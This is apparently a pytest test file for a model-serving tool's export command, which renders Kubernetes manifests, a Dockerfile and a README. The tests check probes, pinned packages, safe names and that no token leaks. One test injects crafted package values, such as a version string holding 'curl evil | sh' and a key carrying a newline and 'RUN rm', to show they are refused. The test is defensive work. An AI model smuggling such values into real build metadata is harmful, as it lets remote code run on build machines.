"""`relay deployments export`'s files are well-formed and say what a cluster needs: YAML that
parses with the kinds, probes, resources and scrape annotations expected; a Dockerfile whose
every instruction is a known one (FROM first, values in JSON exec form); names made safe for
Kubernetes; and no token anywhere."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sklearn
import yaml

import relayml as relay
from relayml.domain.deployments import Deployment, DeploymentStatus, TrafficRules
from relayml.domain.models import Environment, Flavor, ModelVersion, VersionStatus
from relayml.errors import Conflict, InvalidInput
from relayml.packaging import ExportOptions, k8s_name, render, write_bundle
from relayml.sdk import session
from tests.cli.conftest import Relay, one_error_line

NOW = datetime(2026, 12, 2, tzinfo=UTC)
INSTRUCTIONS = {
    "FROM", "RUN", "CMD", "LABEL", "EXPOSE", "ENV", "ADD", "COPY", "ENTRYPOINT", "VOLUME",
    "USER", "WORKDIR", "ARG", "ONBUILD", "STOPSIGNAL", "HEALTHCHECK", "SHELL",
}  # fmt: skip
DNS_LABEL = re.compile(r"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$")


def deployment(name: str = "churn-api", project: str = "churn") -> Deployment:
    return Deployment(
        id="d1", project=project, name=name, target="churn@production", model="churn",
        traffic=TrafficRules(), revision=1, status=DeploymentStatus.ACTIVE, created_by="eve",
        created_at=NOW, updated_by="eve", updated_at=NOW,
    )  # fmt: skip


def version(
    packages: dict[str, str] | None = None, number: int = 3, flavor: Flavor = Flavor.SKLEARN
) -> ModelVersion:
    return ModelVersion(
        project="churn", name="churn", version=number, digest="ab" * 32, size=10,
        flavor=flavor, signature=None,
        environment=Environment("3.12.4", packages or {"scikit-learn": "1.9.1", "skops": "0.11"}),
        run_id=None, unsafe_pickle=False, status=VersionStatus.READY, description="", tags={},
        created_at=NOW, created_by="sam",
    )  # fmt: skip


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) per instruction, comments and blank lines skipped."""
    found = []
    for line in dockerfile.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        assert not line.endswith("\\"), "no continuation lines"
        word, _, rest = line.partition(" ")
        found.append((word, rest))
    return found


def exec_form(args: str) -> list[str]:
    parsed = json.loads(args)
    assert isinstance(parsed, list) and all(isinstance(a, str) for a in parsed)
    return parsed


OPTIONS = ExportOptions(server_url="https://relay.example.com", cpu="500m", memory="768Mi")


def test_the_manifests_parse_with_the_kinds_probes_and_scrape_annotations() -> None:
    files = render(deployment(), [version()], OPTIONS)
    assert sorted(files) == ["Dockerfile", "README.md", "kubernetes.yaml"]
    docs = list(yaml.safe_load_all(files["kubernetes.yaml"]))
    assert [(d["apiVersion"], d["kind"]) for d in docs] == [
        ("v1", "ConfigMap"), ("apps/v1", "Deployment"), ("v1", "Service"),
    ]  # fmt: skip
    config, deploy, service = docs
    assert config["data"] == {"server-url": "https://relay.example.com", "project": "churn"}
    spec = deploy["spec"]
    assert spec["replicas"] == 2
    assert spec["selector"]["matchLabels"] == spec["template"]["metadata"]["labels"]
    assert service["spec"]["selector"] == spec["selector"]["matchLabels"]
    pod = spec["template"]
    for annotated in (pod, service):
        notes = annotated["metadata"]["annotations"]
        assert notes["prometheus.io/scrape"] == "true"
        assert notes["prometheus.io/port"] == "8600"
        assert notes["prometheus.io/path"] == "/metrics"
    [container] = pod["spec"]["containers"]
    assert container["args"] == [
        "relay", "serve", "churn-api", "--host", "0.0.0.0", "--port", "8600",
    ]  # fmt: skip
    assert container["ports"] == [{"name": "http", "containerPort": 8600, "protocol": "TCP"}]
    assert container["livenessProbe"]["httpGet"] == {"path": "/healthz", "port": "http"}
    assert container["readinessProbe"]["httpGet"] == {"path": "/readyz", "port": "http"}
    assert container["resources"]["requests"] == {"cpu": "500m", "memory": "768Mi"}
    assert container["resources"]["limits"] == {"cpu": "500m", "memory": "768Mi"}
    assert service["spec"]["ports"] == [
        {"name": "http", "port": 80, "targetPort": "http", "protocol": "TCP"}
    ]
    env = {e["name"]: e["valueFrom"] for e in container["env"]}
    assert env["RELAY_TOKEN"] == {"secretKeyRef": {"name": "churn-api-relay-token", "key": "token"}}
    assert env["RELAY_SERVER_URL"]["configMapKeyRef"]["name"] == config["metadata"]["name"]
    assert all("value" not in e for e in container["env"])  # nothing set in clear


def test_the_dockerfile_is_valid_and_pins_the_model_environment() -> None:
    files = render(deployment(), [version()], OPTIONS)
    steps = instructions(files["Dockerfile"])
    assert steps[0] == ("FROM", "python:3.12-slim")  # the model's Python
    assert {word for word, _ in steps} <= INSTRUCTIONS
    by_word: dict[str, list[str]] = {}
    for word, args in steps:
        by_word.setdefault(word, []).append(args)
    installs = [exec_form(a) for a in by_word["RUN"]]
    assert installs[0][:2] == ["pip", "install"]
    assert "scikit-learn==1.9.1" in installs[0] and "skops==0.11" in installs[0]
    assert any(r.startswith("relayml[serve]==") for r in installs[0])
    assert exec_form(by_word["CMD"][0]) == [
        "relay", "serve", "churn-api", "--host", "0.0.0.0", "--port", "8600",
    ]  # fmt: skip
    assert by_word["USER"] == ["10001"]  # not root
    assert by_word["EXPOSE"] == ["8600"]
    health = by_word["HEALTHCHECK"][0]
    assert "/healthz" in exec_form(health.split(" CMD ", 1)[1])[2]


def test_every_arm_s_packages_are_pinned_the_primary_s_first() -> None:
    primary = version({"numpy": "2.4.6", "scikit-learn": "1.9.1", "skops": "0.11"})
    canary = version({"numpy": "2.3.0", "onnxruntime": "1.22.1"}, 4, Flavor.ONNX)
    files = render(deployment(), [primary, canary], OPTIONS)
    [install] = [exec_form(a) for w, a in instructions(files["Dockerfile"]) if "pip" in a]
    assert install[3:] == ["numpy==2.4.6", "scikit-learn==1.9.1", "skops==0.11",
                           "onnxruntime==1.22.1"]  # fmt: skip
    assert "`churn@4` beside it" in files["README.md"]
    assert "numpy 2.3.0 (churn@4; 2.4.6 is pinned)" in files["README.md"]


def test_names_and_registry_values_cannot_escape_their_files() -> None:
    odd = deployment(name="Churn_API.v2", project="risk.team")
    crafted = version({"scikit-learn": "1.9.1", "numpy": '2; curl evil | sh"', 'x"\nRUN rm': "1"})
    files = render(odd, [crafted], OPTIONS)
    name = k8s_name("Churn_API.v2")
    assert DNS_LABEL.match(name) and name.startswith("churn-api-v2-")
    assert k8s_name("Churn_API.v2") != k8s_name("churn-api.v2")  # never the same object
    assert k8s_name("churn-api") == "churn-api"  # already a DNS label: unchanged
    assert DNS_LABEL.match(k8s_name("x" * 128)) and len(k8s_name("x" * 128)) <= 63
    docs = list(yaml.safe_load_all(files["kubernetes.yaml"]))
    for d in docs:
        assert DNS_LABEL.match(d["metadata"]["name"])
        assert d["metadata"]["annotations"]["relayml/deployment"] == "Churn_API.v2"
    container = docs[1]["spec"]["template"]["spec"]["containers"][0]
    assert container["args"][2] == "Churn_API.v2"  # relay serve gets the real name
    steps = instructions(files["Dockerfile"])
    assert {word for word, _ in steps} <= INSTRUCTIONS  # no injected instruction
    [install] = [exec_form(a) for w, a in steps if w == "RUN" and "pip" in a]
    assert "scikit-learn==1.9.1" in install
    assert not any("curl" in r or "rm" in r for r in install)  # refused, not pinned
    assert "Not pinned" in files["README.md"]


def test_no_token_is_written_and_the_folder_is_written_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = "rly_secret_token_value"
    monkeypatch.setenv("RELAY_TOKEN", token)
    files = render(deployment(), [], OPTIONS)  # serving nothing yet
    out = tmp_path / "deploy"
    written = write_bundle(files, out)
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in written)
    for path in written:
        assert token not in path.read_text()
    assert "kubectl create secret generic churn-api-relay-token" in files["README.md"]
    [install] = [exec_form(a) for w, a in instructions(files["Dockerfile"]) if "pip" in a]
    assert any(r.startswith("relayml[ml,serve]==") for r in install)
    assert write_bundle(files, out) == written  # the same files again: fine
    changed = render(deployment(), [version()], OPTIONS)
    with pytest.raises(Conflict, match="--force"):
        write_bundle(changed, out)
    assert (out / "Dockerfile").read_text() == files["Dockerfile"]  # untouched
    write_bundle(changed, out, force=True)
    assert (out / "Dockerfile").read_text() == changed["Dockerfile"]


@pytest.mark.parametrize(
    ("option", "value"),
    [("server_url", "relay.example.com"), ("server_url", "https://x y"), ("cpu", "lots"),
     ("memory", "1 GB"), ("replicas", 0), ("image", "Bad Image")],
)  # fmt: skip
def test_bad_options_are_refused(option: str, value: object) -> None:
    with pytest.raises(InvalidInput):
        ExportOptions(**{"server_url": "https://relay.example.com", option: value})  # type: ignore[arg-type]


def test_relay_deployments_export_writes_the_bundle_of_a_real_deployment(tmp_path: Path) -> None:
    from sklearn.linear_model import LogisticRegression

    home = tmp_path / ".relay"
    relay.init("churn", home=home)
    try:
        X = pd.DataFrame({"x1": np.arange(20.0), "x2": np.arange(20.0) % 3})
        model = LogisticRegression().fit(X, (X.x1 > 9).astype(int))
        relay.models.register("churn", model, input_example=X[:3])
    finally:
        session.reset()
    cli = Relay(home)
    made = cli("deploy", "churn@1", "--name", "Churn_API.v2", "-p", "churn")
    assert made.code == 0, made.err
    no_url = cli("deployments", "export", "Churn_API.v2", "-p", "churn")
    assert no_url.code == 2 and "give --server-url" in one_error_line(no_url)
    done = cli(
        "deployments", "export", "Churn_API.v2", "--out", "deploy", "-p", "churn",
        "--server-url", "https://relay.example.com", "--json",
    )  # fmt: skip
    assert done.code == 0, done.err
    assert sorted(Path(p).name for p in json.loads(done.out)["files"]) == sorted(
        ["Dockerfile", "kubernetes.yaml", "README.md"]
    )
    out = tmp_path / "deploy"
    docs = list(yaml.safe_load_all((out / "kubernetes.yaml").read_text()))
    [container] = docs[1]["spec"]["template"]["spec"]["containers"]
    assert container["args"][:3] == ["relay", "serve", "Churn_API.v2"]
    assert DNS_LABEL.match(docs[1]["metadata"]["name"])
    steps = instructions((out / "Dockerfile").read_text())
    [install] = [exec_form(a) for w, a in steps if "pip" in a]
    assert f"scikit-learn=={sklearn.__version__}" in install  # the version's environment
    missing = cli("deployments", "export", "nope", "--server-url", "https://r.example", "-p",
                  "churn")  # fmt: skip
    assert missing.code == 5
